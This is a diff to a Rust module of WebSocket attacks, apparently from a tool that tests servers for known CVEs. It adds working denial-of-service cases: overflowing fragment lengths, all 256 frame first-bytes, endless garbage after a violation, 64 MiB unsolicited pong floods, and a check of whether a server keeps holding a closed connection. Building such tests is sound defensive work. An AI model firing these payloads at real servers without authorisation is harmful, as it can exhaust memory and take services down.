@@ -1,7 +1,7 @@
 //! Attacks on an open connection.
 
 use std::sync::LazyLock;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use flate2::{Compress, Compression, FlushCompress};
 
@@ -22,14 +22,28 @@ pub(crate) const ATTACKS: &[Attack] = &[
         "CVE-2022-35922, CVE-2026-54274: 200 connections that announce 15 MiB",
         announced,
     ),
-    attack("length-overflow", "CVE-2020-27813, CVE-2026-1528: a length of 2^63 - 1", |target| {
+    attack("length-overflow", "CVE-2026-1528: a length of 2^63 - 1", |target| {
         with(target, |link| link.send(&header(0x82, (1 << 63) - 1)))
+    }),
+    attack("length-sum", "CVE-2020-27813: lengths of fragments whose sum overflows", |target| {
+        with(target, |link| {
+            link.send(&frame(0x02, b"xy"));
+            link.send(&header(0x00, (1 << 63) - 1))
+        })
     }),
     attack("length-top-bit", "CVE-2020-13935: a length whose highest bit is set", |target| {
         with(target, |link| link.send(&header(0x82, u64::MAX)))
     }),
     attack("length-of-ping", "CVE-2020-13935: a ping of 2^32 bytes", |target| {
         with(target, |link| link.send(&header(0x89, 1 << 32)))
+    }),
+    attack("first-bytes", "CVE-2025-5399: frames with each of the 256 first bytes", first_bytes),
+    attack("endless-garbage", "CVE-2024-52532: a violation, and bytes without end behind it", |target| {
+        with(target, |link| {
+            link.send(&frame(0xFF, b""));
+            // Not before the end: whether it reads on does not depend on what it has said.
+            while link.sent < 256 * MIB && link.send(&[0xFF; 16_000]) && !link.heard().over {}
+        })
     }),
     attack(
         "endless-message",
@@ -73,6 +87,11 @@ pub(crate) const ATTACKS: &[Attack] = &[
             link.wait_for(Duration::from_secs(10), |heard| heard.pongs >= 100_000);
         })
     }),
+    attack("pong-flood", "CVE-2021-3690: pongs that nobody asked for", |target| {
+        with(target, |link| {
+            repeat(link, &frame(0x8A, &[7; 125]).repeat(100), 64 * MIB);
+        })
+    }),
     attack("close-loop", "1000 times Close, and messages behind it", |target| {
         with(target, |link| {
             link.send(&[frame(0x88, &[3, 0xE8]).repeat(1000), frame(0x81, b"behind").repeat(1000)].concat());
@@ -109,13 +128,28 @@ pub(crate) const ATTACKS: &[Attack] = &[
     }),
     Attack {
         slow: true,
-        ..attack("no-answer-to-close", "a connection that fails and whose end is not answered", |target| {
-            let Ok(mut link) = target.open("") else { return "no 101".into() };
-            link.send(&frame(0x83, b""));
-            link.outcome(target.most)
-        })
+        ..attack(
+            "no-answer-to-close",
+            "CVE-2024-23672: a connection that fails, and whose peer neither answers nor goes",
+            unfinished,
+        )
     },
 ];
+
+/// Breaks a rule, hears the Close, and stays. The server has ended its direction then; whether it still holds the
+/// connection shows when it takes no more bytes.
+fn unfinished(target: &Target) -> String {
+    let Ok(mut link) = target.open("") else { return "no 101".into() };
+    link.send(&frame(0x83, b""));
+    link.wait_for(target.most, |heard| heard.over);
+    let began = Instant::now();
+    while link.send(&[0]) {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let stayed = if Instant::now() > link.until { "STILL HELD" } else { "dropped" };
+    let stayed = format!(", {stayed} after {:.1} s", began.elapsed().as_secs_f64());
+    link.outcome(target.most) + &stayed
+}
 
 fn with<T>(target: &Target, attack: impl FnOnce(&mut Link) -> T) -> String {
     match target.open("") {
@@ -144,6 +178,32 @@ fn announced(target: &Target) -> String {
     }
     std::thread::sleep(Duration::from_millis(300));
     format!("{} open, {} of them still", links.len(), links.iter().filter(|link| !link.heard().over).count())
+}
+
+/// A connection for each first byte, with a short masked frame of one byte of content.
+fn first_bytes(target: &Target) -> String {
+    let mut links = Vec::new();
+    for first in 0..=0xFF {
+        let Ok(mut link) = target.open("") else { return format!("no 101 behind {}", links.len()) };
+        link.send(&frame(first, b"x"));
+        links.push(link);
+    }
+    std::thread::sleep(ANSWER);
+    let mut said = Vec::<(String, usize)>::new();
+    for link in &links {
+        let heard = link.heard();
+        let what = match heard.closes.first() {
+            Some(code) => format!("Close {code}"),
+            None if heard.over => "dropped".into(),
+            None => "open".into(),
+        };
+        match said.iter_mut().find(|(other, _)| *other == what) {
+            Some((_, count)) => *count += 1,
+            None => said.push((what, 1)),
+        }
+    }
+    said.sort();
+    said.iter().map(|(what, count)| format!("{count} × {what}")).collect::<Vec<_>>().join(", ")
 }
 
 fn bomb(target: &Target, attack: impl FnOnce(&mut Link, &[u8]) -> bool) -> String {
